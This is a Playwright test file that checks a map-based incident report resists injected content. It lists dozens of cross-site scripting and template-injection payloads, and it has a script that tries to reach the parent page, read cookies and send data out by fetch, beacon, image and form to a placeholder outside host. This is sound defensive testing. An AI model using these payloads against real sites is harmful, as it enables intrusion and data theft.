"""Hostile text on the map, in a real browser: it neither runs nor blanks the map, and is shown as it was stored."""

import itertools
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Frame, Page

from browser.map_stand import NONCE, Stand
from incidents.domain.incident import Summary
from incidents.domain.places import PlacePrecision, Point
from incidents.domain.text import Trilingual
from incidents.reports import map as drawing
from unit.reports.map_samples import CAPTION, GROUND, STATIC, summary, words

RUN = "window.__x=1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<a href='javascript:{RUN}'>link</a>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<math><mi//xlink:href='javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<style>@import 'javascript:{RUN}';</style>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<meta http-equiv=refresh content='0;url=//example.org'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<b onmouseover={RUN} onclick={RUN} style='position:fixed;inset:0'>x</b>",
]
SCRIPT = [
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"`;{RUN};`",
    f"\\`;{RUN};//",
    f"\\\\`;{RUN};//",
    f"\\\\\\`;{RUN};//",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f'\\";{RUN};//',
    f"\n{RUN}\n",
    f"*/{RUN}/*",
    f"-->\n{RUN}",
    f"\u2028{RUN}\u2029",
    f"}});{RUN};//",
    f"]}}]}};{RUN};//",
    f"\\u0022;{RUN};//",
    f"\\x27;{RUN};//",
    f"javascript:{RUN}",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% for a in b %}",
    "{# hidden #}",
    "{{ cycler.__init__.__globals__.os.getcwd() }}",
    "%(low)s %s %d {0} $title ${nonce}",
]
PLAIN = [
    "C:\\users\\x",
    "C:\\new\\table\\u0041",
    "ساحة الخلاني <b>٢٥</b>",
    "\u202eright to left\u202c",
    "emoji \U0001f54a and \u0000-free",
    "a" * 3000,
    "__proto__",
    "constructor",
]
PAYLOADS = [text for text in [*MARKUP, *SCRIPT, *TEMPLATES, *PLAIN] if "\u0000" not in text] + ["emoji \U0001f54a"]
FIELDS: dict[str, Callable[[str], dict[str, Any]]] = {
    "title": lambda text: {"title": Trilingual(en=text)},
    "second title": lambda text: {"title": Trilingual(en="Invented", ar=text)},
    "place": lambda text: {"place": Trilingual(en=text)},
    "area": lambda text: {"area": Trilingual(en=text), "precision": PlacePrecision.GOVERNORATE, "radius_m": None},
}
SHOWN = """() => {
  const group = window[Object.keys(window).find((name) => name.startsWith("marker_cluster_"))];
  const map = group._map;
  return group.getLayers().map((marker) => {
    const alone = marker.addTo(map).openTooltip();
    const tip = marker.getTooltip().getElement();
    const shown = [".tip-title", ".tip-figure", ".tip-when"].map((which) => tip.querySelector(which).textContent);
    const spoken = marker.getElement().querySelector(".spoken").textContent;
    alone.closeTooltip().remove();
    return { code: marker.options.about.code, shown, spoken };
  }).sort((one, other) => (one.code < other.code ? -1 : 1));
}"""
LISTEN = """
window.__broken = [];
document.addEventListener("securitypolicyviolation", (event) => window.__broken.push(event.violatedDirective));
"""


def rows_of(field: str) -> list[Summary]:
    """One invented incident a payload, on a grid over the country."""
    grid = itertools.product(range(9), range(9))
    return [
        summary(number, point=Point(30 + 0.8 * y, 40 + 0.8 * x), **FIELDS[field](text))
        for number, (text, (y, x)) in enumerate(zip(PAYLOADS, grid, strict=False), start=1)
    ]


def map_frame(page: Page) -> Frame:
    """The map's frame, once its marks are drawn."""
    frame = page.frame_locator("iframe")
    frame.locator(".mark").first.wait_for()
    return page.frames[1]


def until(page: Page, condition: str) -> None:
    """Wait for a condition; the page's policy forbids the waiting of Playwright's own, which evaluates text."""
    for _ in range(100):
        if page.evaluate(condition):
            return
        page.wait_for_timeout(50)
    pytest.fail(f"still not: {condition}")


def unharmed(*frames: Frame) -> None:
    for frame in frames:
        assert frame.evaluate("window.__x") is None
        assert frame.evaluate("window.__broken") == []


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


def test_a_hostile_title_is_shown_as_stored_and_runs_nowhere(serve: Callable[[Any], str], page: Page) -> None:
    rows = rows_of("title")
    page.add_init_script(LISTEN)
    page.goto(serve(Stand(rows)))
    frame = map_frame(page)
    found = frame.evaluate(SHOWN)
    assert [one["code"] for one in found] == [one.code for one in rows]
    assert [one["shown"] for one in found] == [[text, "Killed: 46 to 70", "2019-11-28"] for text in PAYLOADS]
    assert [one["spoken"] for one in found] == [f"{text}. Killed: 46 to 70. 2019-11-28" for text in PAYLOADS]
    unharmed(*page.frames)


@pytest.mark.parametrize("worded", ["figure", "when"])
def test_hostile_words_of_a_figure_or_a_date_are_shown_as_given(
    worded: str, serve: Callable[[Any], str], page: Page
) -> None:
    texts = iter(PAYLOADS)
    page.add_init_script(LISTEN)
    page.goto(
        serve(Stand([summary(number) for number in range(1, len(PAYLOADS) + 1)], **{worded: lambda _: next(texts)}))
    )
    found = map_frame(page).evaluate(SHOWN)
    assert [one["shown"][1 if worded == "figure" else 2] for one in found] == PAYLOADS
    unharmed(*page.frames)


def test_hovering_and_choosing_hostile_marks_runs_nothing(serve: Callable[[Any], str], page: Page) -> None:
    page.add_init_script(LISTEN)
    page.goto(serve(Stand(rows_of("title"))))
    frame = map_frame(page)
    marks = page.frame_locator("iframe").locator(".mark:visible")
    assert marks.count() > 20
    for number in range(0, 20, 2):
        marks.nth(number).hover(force=True)
    page.frame_locator("iframe").locator(".leaflet-control-layers").hover()
    marks.nth(0).click(force=True)
    unharmed(frame, page.main_frame)


@pytest.mark.parametrize("field", FIELDS)
def test_a_file_shows_hostile_text_as_stored_without_a_network(field: str, page: Page, tmp_path: Path) -> None:
    rows = rows_of(field)
    path = tmp_path / "map.html"
    path.write_text(drawing.stand_alone(rows, GROUND, words(), caption=CAPTION, static=STATIC), encoding="utf-8")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.add_init_script(LISTEN)
    page.goto(path.as_uri())
    buttons = page.locator(".row-title")
    assert buttons.count() == len(PAYLOADS)
    cards = page.evaluate(
        """() => [...document.querySelectorAll(".row-title")].map((button) => {
          button.click();
          return [...document.querySelectorAll("#card > *")].map((line) => line.textContent);
        })"""
    )
    expected = [f"Somewhere in this area: {text}" if field == "area" else text for text in PAYLOADS]
    assert [text for text, lines in zip(expected, cards, strict=True) if text not in lines] == []
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []
    unharmed(page.main_frame)


def test_what_a_file_says_about_itself_is_text(page: Page, tmp_path: Path) -> None:
    told = "".join(PAYLOADS[:40])
    caption = CAPTION.__class__(title=told, question=told, total=told, label=told, made=told)
    path = tmp_path / "map.html"
    path.write_text(drawing.stand_alone([], GROUND, words(), caption=caption, static=STATIC), encoding="utf-8")
    page.add_init_script(LISTEN)
    page.goto(path.as_uri())
    assert page.locator("h1").text_content() == told
    unharmed(page.main_frame)


# The frame and the page around it


def test_choosing_a_mark_opens_its_card_in_the_page(serve: Callable[[Any], str], page: Page) -> None:
    rows = [summary(1), summary(2, point=Point(31.04, 46.255))]
    page.goto(serve(Stand(rows)))
    map_frame(page)
    page.frame_locator("iframe").locator(".mark", has_text="Invented incident 2").click()
    card = page.locator("[data-map-card]")
    card.get_by_text("Card of IRQ-0000002").wait_for()
    assert page.locator("[data-code][aria-current]").get_attribute("data-code") == "IRQ-0000002"


def test_a_mark_opens_by_keyboard_too(serve: Callable[[Any], str], page: Page) -> None:
    page.goto(serve(Stand([summary(1)])))
    map_frame(page)
    page.frame_locator("iframe").locator(".mark").focus()
    page.keyboard.press("Enter")
    page.locator("[data-map-card]").get_by_text("Card of IRQ-0000001").wait_for()


def test_a_row_finds_its_mark_out_of_its_cluster(serve: Callable[[Any], str], page: Page) -> None:
    rows = [summary(number) for number in range(1, 9)]
    page.goto(serve(Stand(rows)))
    frame = map_frame(page)
    assert page.frame_locator("iframe").locator(".mark:not(.cluster)").count() == 0
    page.locator("[data-code=IRQ-0000005] button").click()
    page.frame_locator("iframe").locator(".mark.chosen:not(.cluster)").wait_for()
    assert frame.evaluate("incidents.chosen") == "IRQ-0000005"
    page.locator("[data-map-card]").get_by_text("Card of IRQ-0000005").wait_for()


def test_a_map_without_a_list_leads_to_the_incident_itself(serve: Callable[[Any], str], page: Page) -> None:
    stand = Stand([summary(1)])
    stand.pages["/"] = (stand.pages["/"][0].replace("data-code", "data-none"), stand.pages["/"][1])
    page.goto(serve(stand))
    map_frame(page)
    page.frame_locator("iframe").locator(".mark").click()
    page.wait_for_url("**/incidents/IRQ-0000001")


JUNK = """
parent.postMessage("incidents-map-ready", "*");
addEventListener("message", (event) => {
  const port = event.ports[0];
  if (!port) return parent.postMessage("incidents-map-ready", "*");
  const codes = [undefined, 7, ["IRQ-0000001"], "javascript:alert(1)", "../../accounts", "IRQ-0000001\\n", ""];
  const sent = [null, 1, "choose", {}, {type: "hover", code: {}}, {type: "constructor"}, {type: "__proto__"},
    {type: "viewport", west: "<img>"}, ...codes.map((code) => ({type: "choose", code}))];
  sent.forEach((message) => port.postMessage(message));
  setTimeout(() => parent.postMessage({done: 1}, "*"), 50);
});
"""


def test_a_frame_that_sends_anything_else_is_not_heard(serve: Callable[[Any], str], page: Page) -> None:
    stand = Stand([summary(1)])
    stand.pages["/frame"] = (
        f'<!doctype html><script nonce="{NONCE}">{JUNK}</script>',
        stand.pages["/frame"][1],
    )
    stand.pages["/"] = (stand.pages["/"][0].replace("data-code", "data-none"), stand.pages["/"][1])
    page.add_init_script("window.addEventListener('message', (e) => { if (e.data.done) window.__done = true; });")
    address = serve(stand)
    page.goto(address)
    until(page, "window.__done")
    assert page.url == f"{address}/"
    assert page.locator("[data-map-card]").is_hidden()


EVIL = """
parent.postMessage({ evil: true }, "*");
const tries = [
  () => { parent.document.title = "taken"; },
  () => { top.location = "OUTSIDE/top"; },
  () => { parent.__x = 1; },
  () => { document.cookie.length; },
  () => { localStorage.setItem("x", "1"); },
  () => fetch("/steal").catch(() => {}),
  () => fetch("OUTSIDE/fetch").catch(() => {}),
  () => { new Image().src = "OUTSIDE/image"; },
  () => { navigator.sendBeacon("OUTSIDE/beacon", "x"); },
  () => { open("OUTSIDE/open"); },
  () => {
    const form = Object.assign(document.createElement("form"), { action: "OUTSIDE/form" });
    document.body.append(form);
    form.submit();
  },
  () => { location = "OUTSIDE/frame"; },
];
for (const attempt of tries) {
  try { attempt(); } catch (error) { console.error(error.name); }
}
"""


def test_a_script_that_did_get_in_reaches_neither_the_page_nor_anyone(
    serve: Callable[[Any], str], page: Page, watch: Any
) -> None:
    watch.expect(".")  # every attempt is refused aloud
    outside, stand = Stand(), Stand([summary(1)])
    elsewhere = serve(outside).replace("127.0.0.1", "localhost")
    body, policy = stand.pages["/frame"]
    script = f'<script nonce="{NONCE}">{EVIL.replace("OUTSIDE", elsewhere)}</script></body>'
    stand.pages["/frame"] = (body.replace("</body>", script), policy)
    page.add_init_script("window.addEventListener('message', (e) => { if (e.data.evil) window.__ran = true; });")
    page.context.add_cookies([{"name": "session", "value": "secret", "url": "http://127.0.0.1"}])
    address = serve(stand)
    page.goto(address)
    until(page, "window.__ran")
    page.wait_for_timeout(1000)
    assert page.title() == "Map"
    assert page.url == f"{address}/"
    assert page.evaluate("window.__x") is None
    assert outside.asked == []
    assert "/steal" not in stand.asked
    assert len(page.context.pages) == 1
